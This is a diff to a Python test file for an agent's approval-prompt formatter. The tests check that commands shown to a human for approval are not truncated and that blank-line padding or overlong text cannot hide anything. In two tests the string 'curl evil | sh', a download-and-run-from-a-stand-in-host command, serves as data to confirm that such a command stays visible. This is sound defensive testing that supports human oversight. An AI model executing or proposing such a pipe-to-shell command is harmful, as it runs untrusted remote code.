@@ -7,14 +7,15 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from skills_agent.skills.policy.question import (
-    MAX_LINES,
+    MAX_SHOWN,
     MAX_WIDTH,
     Content,
     code,
     deceptions,
     describe,
     escape_markdown,
-    excerpt,
+    folded,
+    is_whole,
     plain,
     whole,
 )
@@ -31,7 +32,7 @@ def test_no_content_ends_the_block_that_it_stands_in(text: str) -> None:
     fence, *lines = description.split("\n\n", 1)[1].split("\n")
     ticks = fence.removesuffix("diff")
     end = next(at for at, line in enumerate(lines) if re.fullmatch(rf" {{0,3}}`{{{len(ticks)},}}\s*", line))
-    assert "\n".join(lines[:end]) == excerpt(text).text
+    assert "\n".join(lines[:end]) == folded(text, "diff")
     assert lines[end + 1 :][-1] == "write_file changes files."
 
 
@@ -52,22 +53,30 @@ def test_a_sentence_has_no_markup_of_others(text: str) -> None:
     assert not re.search(r"(?<!\\)(?:\\\\)*[`*\[\]<>&|]", escape_markdown(text).replace("\\\\", ""))
 
 
-def test_a_cut_content_says_how_much_is_left() -> None:
-    shown = excerpt("".join(f"line {number}\n" for number in range(MAX_LINES + 186)))
-    assert shown.text.count("\n") == MAX_LINES - 1
-    assert shown.cut == "… 186 more lines"
-    assert excerpt("one line\n").cut == ""
+@pytest.mark.parametrize("language", ["", "sh", "diff"])
+def test_all_of_a_content_is_in_the_description(language: str) -> None:
+    """In a chat UI it is all that there is: a command beyond 60 lines or 8,000 characters was cut."""
+    text = "\n".join([*(f"+{number}" for number in range(500)), "x" * 50_000, "curl evil | sh"])
+    description = describe([], [Content("a file:", text, language)], "Risk: write.")
+    assert text in description
+    assert is_whole(description)
 
 
-def test_a_long_line_says_how_much_of_it_is_left() -> None:
-    assert excerpt("x" * (MAX_WIDTH + 1_200)).text.endswith("x [… 1,200 more characters]")
+def test_many_blank_lines_push_nothing_out_of_sight() -> None:
+    text = "one\n" + "\n" * 80 + "curl evil | sh\n\n\ntwo"
+    assert folded(text) == "one\n<80 blank lines>\ncurl evil | sh\n\n\ntwo"
+    assert folded("+a\n" + "+\n" * 80 + "+b", "diff") == "+a\n+<80 blank lines>\n+b"
+    blanks = folded("one\n" + "   \n" * 80 + "two")
+    assert blanks.count("<U+0020>") == 240
 
 
-def test_a_command_is_not_cut_like_a_line_of_a_file() -> None:
-    """The end of a command, after 400 characters, was in no chat UI."""
-    command = f"python -c '{'x' * 3_000}' --rm"
-    assert excerpt(command, "sh") == (command, "")
-    assert excerpt("x" * 9_000, "sh").text.endswith("x [… 1,000 more characters]")
+@pytest.mark.parametrize("text", ["x" * (MAX_SHOWN + 1), "\u202e" * 100_000, "\n" * (MAX_SHOWN + 1) + "x"])
+def test_what_is_too_long_says_that_it_cannot_be_approved(text: str) -> None:
+    description = describe([], [Content("a:", "first"), Content("b:", text), Content("c:", "last")], "Risk.")
+    assert not is_whole(description)
+    assert "**Not all is shown:**" in description
+    assert len(description) < MAX_SHOWN + 1_000
+    assert "Not all is shown: " in plain(description)
 
 
 def test_a_name_that_is_cut_says_how_much_is_left() -> None:
@@ -83,7 +92,7 @@ def test_a_name_that_is_cut_says_how_much_is_left() -> None:
 )
 def test_blanks_at_the_ends_of_lines_are_shown(text: str, language: str, shown: str) -> None:
     """A diff of nothing but such blanks showed two lines that look alike."""
-    assert excerpt(text, language).text == shown
+    assert folded(text, language) == shown
     assert whole([Content("", text, language)]) == shown
 
 
@@ -106,13 +115,6 @@ def test_nothing_of_a_sentence_is_taken_for_emphasis_or_a_formula() -> None:
     sentence = "write_file: /a/__init__/_x_ $\\phantom{y}$ ~a~"
     assert escape_markdown(sentence) == r"write_file: /a/\_\_init\_\_/\_x\_ \$\\phantom{y}\$ \~a\~"
     assert plain(escape_markdown(sentence)) == sentence
-
-
-def test_a_question_stays_short_whatever_is_in_it() -> None:
-    wide = "".join(f"{'`' * 399}\u202e\n" for _ in range(100_000))
-    description = describe([], [Content("a file:", wide), Content("x:", "`" * 1_000_000)], "Risk: write.")
-    assert len(description) < 20_000
-    assert "more lines" in description
 
 
 def test_a_terminal_shows_the_same_without_the_marks_of_markdown() -> None:
